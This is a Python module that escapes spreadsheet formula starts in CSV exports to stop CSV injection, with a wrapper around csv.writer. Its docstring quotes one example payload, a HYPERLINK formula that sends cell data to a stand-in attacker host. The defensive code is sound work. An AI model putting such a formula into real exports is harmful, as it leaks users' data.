"""CSV exports that a spreadsheet opens as text, never as formulas.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by Excel
and LibreOffice as a formula (``=HYPERLINK("http://evil.example/?"&A1,"click")`` sends the
sheet's data away when clicked). Following OWASP's advice on CSV injection, such a cell gets a
single quote in front: the spreadsheet shows the text as written (the quote is hidden or plain
to see), and nothing runs. Plain numbers (``-3``, ``+4.5``) are left as they are: a spreadsheet
reads them as numbers, not formulas. Every CSV the app hands out goes through :func:`writer`.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

# ASCII and the full-width forms some spreadsheets also treat as formula starts
FORMULA_START = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def safe_cell(value: object) -> object:
    """The value, with a leading ``'`` when a spreadsheet would take the text for a formula."""
    if not isinstance(value, str) or not value or value[0] not in FORMULA_START:
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value


class SafeWriter:
    """``csv.writer`` with every cell passed through :func:`safe_cell`."""

    def __init__(self, out: _Writable, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: _Writable, **options: Any) -> SafeWriter:
    """The one CSV writer for exports: same options as ``csv.writer``."""
    return SafeWriter(out, **options)
